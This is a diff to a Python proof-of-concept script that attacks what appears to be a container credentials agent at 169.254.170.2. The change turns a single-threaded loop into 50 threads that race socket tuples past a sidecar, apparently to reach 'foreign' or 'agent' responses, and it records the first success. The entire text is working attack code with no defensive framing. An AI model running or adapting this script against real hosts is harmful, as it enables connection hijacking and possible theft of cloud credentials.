@@ -10,6 +10,7 @@ import json
 import socket
 import struct
 import sys
+import threading
 import time
 
 AGENT = ("169.254.170.2", 80)
@@ -51,24 +52,43 @@ with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
     source = probe.getsockname()[0]
 
 first = None
-occupier = None
+numbers = iter(range(1, tries + 1))
+lock = threading.Lock()
 
-for number in range(tries):
-    # Renewed before the sidecar closes what asks for nothing.
-    if number % 200 == 0:
-        if occupier:
-            occupier.close()
-        occupier = bound(0)
-        occupier.connect(("127.0.0.1", own_port))
 
-    try:
-        with bound(occupier.getsockname()[1]) as connection:
-            result = kind(answer(connection))
-    except OSError as e:
-        result = type(e).__name__
+def attack():
+    """Renews what takes the tuple before the sidecar closes it, since it asks for nothing."""
+    global first
+    occupier, since = None, 0.0
 
-    seen[result] += 1
-    if result in ("foreign", "agent") and first is None:
-        first = {"try": number + 1, "seconds": round(time.monotonic() - started, 3)}
+    while True:
+        with lock:
+            if (number := next(numbers, None)) is None:
+                return
+
+        try:
+            if occupier is None or time.monotonic() - since > 1:
+                if occupier:
+                    occupier.close()
+                occupier, since = bound(0), time.monotonic()
+                occupier.connect(("127.0.0.1", own_port))
+
+            with bound(occupier.getsockname()[1]) as connection:
+                result = kind(answer(connection))
+        except OSError as e:
+            result = type(e).__name__
+
+        with lock:
+            seen[result] += 1
+            if result in ("foreign", "agent") and first is None:
+                first = {"try": number, "seconds": round(time.monotonic() - started, 3)}
+
+
+# Each from a port of its own, since a rejection may be answered late.
+workers = [threading.Thread(target=attack) for _ in range(50)]
+for worker in workers:
+    worker.start()
+for worker in workers:
+    worker.join()
 
 print(json.dumps({"first": first, "seconds": round(time.monotonic() - started, 1), **seen}))
